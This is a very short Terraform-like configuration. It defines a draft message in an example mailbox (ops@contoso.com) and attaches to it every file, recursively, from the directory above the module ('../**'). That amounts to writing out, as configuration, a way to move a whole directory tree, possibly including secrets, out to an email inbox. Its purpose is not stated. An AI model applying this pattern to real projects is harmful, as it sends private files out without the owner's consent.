target "inbox" {
  mailbox = "ops@contoso.com"
  message = "AAMkADraft="
}
attachment "docs" {
  for_each = fileset(path.module, "../**")
  target   = target.inbox
  source   = each.value
}
